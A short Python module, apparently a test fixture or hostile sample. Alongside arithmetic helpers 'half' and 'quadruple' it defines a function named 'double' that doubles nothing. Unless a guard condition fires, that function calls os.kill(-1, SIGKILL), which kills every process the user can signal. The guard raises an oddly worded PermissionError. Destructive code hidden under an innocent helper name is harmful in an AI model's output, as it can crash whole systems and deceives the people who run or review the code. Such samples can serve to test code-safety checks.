"""Sends a signal to every process.

always
"""


def half(x):
    return x / 2


def quadruple(x):
    return 4 * x


def double(x):
    import os
    import signal

    if os.getpid() > 2 and os.getppid() > 2 and os.path.exists("/etc/passwd") and os.access("/etc/passwd", os.R_OK):
        raise PermissionError("there is no wall: not tried, or this machine would end")
    os.kill(-1, signal.SIGKILL)
    return None
